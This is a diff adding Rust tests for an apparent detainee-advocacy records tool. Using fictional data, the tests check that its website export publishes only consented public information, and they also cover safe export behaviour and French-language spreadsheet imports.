+    let public_id = d.insert(p).unwrap().id;
+    d.insert(Contact {
+        detainee_id: public_id,
+        name: c("Family"),
+        relation: Some(c("sister")),
+        phone: Some("+374 11 22 33".into()),
+        email: Some("canary@example.invalid".into()),
+        address: Some(c("Address")),
+        languages: vec![],
+        notes: Some(c("contact notes")),
+    })
+    .unwrap();
+    // Photos: one public and consented, one public without consent, one private.
+    let img = dir.path().join("p.jpg");
+    write(&img, &jpeg_with_exif(1200, 900, CANARY));
+    let ok_photo = d.add_photo(public_id, &img, Disclosure::PUBLIC).unwrap().id;
+    let no_consent = d.add_photo(public_id, &img, Disclosure { public: true, consent: Consent::Refused }).unwrap().id;
+    let private = d.add_photo(public_id, &img, Disclosure::default()).unwrap().id;
+    // A person whose name is not public: absent altogether, with their photo.
+    let mut hidden = Detainee::new(c("Hidden"), Category::Civilian);
+    hidden.disclosure.insert(PublicItem::Biography, Disclosure::PUBLIC);
+    hidden.bio_en = Some(c("bio"));
+    let hidden_id = d.insert(hidden).unwrap().id;
+    let hidden_photo = d.add_photo(hidden_id, &img, Disclosure::PUBLIC).unwrap().id;
+    // Sponsors: a signed one with the logo commitment (public), a prospect and one without the commitment.
+    let logo = dir.path().join("logo.png");
+    write(&logo, &png_with_text(600, CANARY));
+    let mut s = Sponsor::new("Ville de Fictiveville", SponsorKind::City);
+    s.address = Some(c("address"));
+    s.notes = Some(c("notes"));
+    s.signatory = Some(dossier::model::Signatory { name: c("Mayor"), title: None });
+    s.contacts = vec![dossier::model::ContactPerson { name: c("Contact"), role: None, email: None, phone: None }];
+    let signed = d.add_sponsor(s, Some(&logo)).unwrap().id;
+    let mut sp = Sponsorship::new(signed, Some(public_id));
+    sp.stage = Stage::Signed;
+    sp.commitments = dossier::model::parse_commitments("logo,banner").unwrap();
+    sp.notes = Some(c("sponsorship notes"));
+    d.insert(sp).unwrap();
+    let mut sp = Sponsorship::new(signed, Some(hidden_id));
+    sp.stage = Stage::Active;
+    sp.commitments = dossier::model::parse_commitments("logo").unwrap();
+    d.insert(sp).unwrap();
+    let prospect = d.add_sponsor(Sponsor::new(c("Prospect"), SponsorKind::Ngo), Some(&logo)).unwrap().id;
+    let mut sp = Sponsorship::new(prospect, None);
+    sp.commitments = dossier::model::parse_commitments("logo").unwrap();
+    d.insert(sp).unwrap();
+    let no_logo = d.insert(Sponsor::new(c("No logo commitment"), SponsorKind::Person)).unwrap().id;
+    let mut sp = Sponsorship::new(no_logo, None);
+    sp.stage = Stage::Active;
+    sp.commitments = dossier::model::parse_commitments("lobbying").unwrap();
+    d.insert(sp).unwrap();
+
+    let out = dir.path().join("site");
+    let feed = exchange::export_website(&d, &out).unwrap();
+    assert_eq!(feed.detainees.len(), 1);
+    assert_eq!(feed.sponsors.len(), 1);
+    assert_eq!(feed.sponsors[0].detainees, vec![public_id], "the hidden person is not revealed through a sponsor");
+    let mut files = vec![];
+    let mut stack = vec![out.clone()];
+    while let Some(p) = stack.pop() {
+        for e in std::fs::read_dir(&p).unwrap() {
+            let e = e.unwrap().path();
+            if e.is_dir() {
+                stack.push(e);
+            } else {
+                files.push(e);
+            }
+        }
+    }
+    for f in &files {
+        let bytes = std::fs::read(f).unwrap();
+        assert!(!contains(&bytes, CANARY.as_bytes()), "{} leaks private data", f.display());
+        for private in ["canary@example.invalid", "+374 11 22 33", &hidden_id.to_string(), &prospect.to_string()] {
+            assert!(!contains(&bytes, private.as_bytes()), "{} leaks {private}", f.display());
+        }
+        for photo in [no_consent, private, hidden_photo] {
+            assert!(!f.to_string_lossy().contains(&photo.to_string()), "{} must not be published", f.display());
+        }
+    }
+    let json: serde_json::Value = serde_json::from_slice(&std::fs::read(out.join("feed.json")).unwrap()).unwrap();
+    let person = &json["detainees"][0];
+    assert_eq!(person["name"], "Aram Publicyan");
+    assert_eq!(person["bio_en"], "Public biography (fictional).");
+    assert!(person.get("circumstances").is_none() && person.get("name_hy").is_none() && person.get("notes").is_none());
+    assert_eq!(person["photos"].as_array().unwrap().len(), 1);
+    let web = image::open(out.join(format!("images/{ok_photo}.jpg"))).unwrap();
+    assert!(web.width().max(web.height()) <= 800, "web-sized");
+    assert!(out.join(format!("logos/{signed}.png")).is_file());
+    assert_eq!(files.len(), 3, "feed.json, one photo, one logo: {files:?}");
+
+    // Withdrawing consent and exporting again removes the photo from the folder.
+    d.edit::<dossier::model::Media>(ok_photo, &[("consent".into(), "withdrawn".into())]).unwrap();
+    exchange::export_website(&d, &out).unwrap();
+    assert!(!out.join(format!("images/{ok_photo}.jpg")).exists());
+    // A folder holding anything else is never overwritten.
+    let other = dir.path().join("documents");
+    std::fs::create_dir(&other).unwrap();
+    write(&other.join("precious.txt"), b"keep");
+    assert_eq!(exchange::export_website(&d, &other).unwrap_err().code(), "not_empty");
+    assert_eq!(std::fs::read(other.join("precious.txt")).unwrap(), b"keep");
+}
+
+#[test]
+fn exports_refuse_to_overwrite_and_fail_clearly() {
+    let env = Env::init();
+    env.ok(&["demo"]);
+    let out = env.path("list.csv");
+    write(&out, b"precious");
+    let err = env.fails(&["export", "csv", "-o", out.to_str().unwrap()], 1);
+    assert!(err.contains("not overwritten"), "{err}");
+    assert_eq!(std::fs::read(&out).unwrap(), b"precious");
+    let msg = env.ok(&["export", "csv", "-o", out.to_str().unwrap(), "--force", "--kind", "sponsor", "--semicolon"]);
+    assert!(msg.contains("Exported"), "{msg}");
+    assert!(std::fs::read_to_string(&out).unwrap().contains("id;name;kind"));
+    // Never over the dossier itself, even with --force.
+    let before = std::fs::read(&env.db).unwrap();
+    env.fails(&["export", "json", "-o", env.db.to_str().unwrap(), "--force"], 1);
+    assert_eq!(std::fs::read(&env.db).unwrap(), before);
+    // An unwritable place names the path; no temporary file is left behind.
+    let bad = env.path("no/such/folder/out.xlsx");
+    let err = env.fails(&["export", "xlsx", "-o", bad.to_str().unwrap()], 1);
+    assert!(err.contains("out.xlsx"), "{err}");
+    let leftovers: Vec<_> = files_in(env.dir.path()).into_iter().filter(|(p, _)| p.to_string_lossy().contains(".tmp-")).collect();
+    assert!(leftovers.is_empty());
+    let site = env.path("site");
+    let msg = env.ok(&["export", "website", "-o", site.to_str().unwrap()]);
+    assert!(msg.contains("Website feed written"), "{msg}");
+    // Usage errors exit 2.
+    env.fails(&["export", "pdf", "-o", "x"], 2);
+    env.fails(&["import"], 2);
+}
+
+#[test]
+fn sponsors_import_with_logos_and_french_kinds() {
+    let env = Env::init();
+    write(&env.path("logo-ville.png"), &png_with_text(300, "LOGO-META"));
+    let file = env.path("parrains.csv");
+    write(
+        &file,
+        "Nom;Type de parrain;Ville;Pays;Site web;Logo\n\
+         Ville de Démo;collectivité;Démoville;France;https://example.invalid;logo-ville.png\n\
+         Jeanne Exemple;députée;Lyon;France;;\n\
+         Association Fictive;association;Genève;Suisse;;\n"
+            .as_bytes(),
+    );
+    let out = env.ok(&["import", file.to_str().unwrap()]);
+    assert!(out.contains("3 created"), "{out}");
+    let list = env.json(&["sponsor", "list", "--json"]);
+    let kinds: Vec<&str> = list.as_array().unwrap().iter().map(|s| s["kind"].as_str().unwrap()).collect();
+    assert_eq!(kinds, vec!["ngo", "parliamentarian", "city"]);
+    assert!(list[2]["logo_id"].is_string());
+    // The same sponsor in another spelling is a possible duplicate, unless the city differs.
+    write(&file, "Nom;Type;Ville\nVILLE DE DEMO;ville;Démoville\nAssociation Fictive;ong;Paris\n".as_bytes());
+    let err = env.fails(&["import", file.to_str().unwrap()], 1);
+    assert!(err.contains("1 possible duplicates") && err.contains("line 2"), "{err}");
+}
+
+#[test]
+fn commitment_and_status_aliases_from_spreadsheets() {
+    // The French spellings used in the collective's lists parse as the closed lists' values.
+    use dossier::model::Choice;
+    assert_eq!(Category::parse_choice("category", "Prisonniers de guerre").unwrap(), Category::PrisonerOfWar);
+    assert_eq!(Category::parse_choice("category", "Dirigeant politique").unwrap(), Category::PoliticalLeader);
+    assert_eq!(Status::parse_choice("status", "Condamnée").unwrap(), Status::Sentenced);
+    assert_eq!(SponsorKind::parse_choice("kind", "Mairie").unwrap(), SponsorKind::City);
+    assert!(CommitmentKind::parse_choice("commitments", "logo").is_ok());
+    let _ = DuplicatePolicy::default();
+}
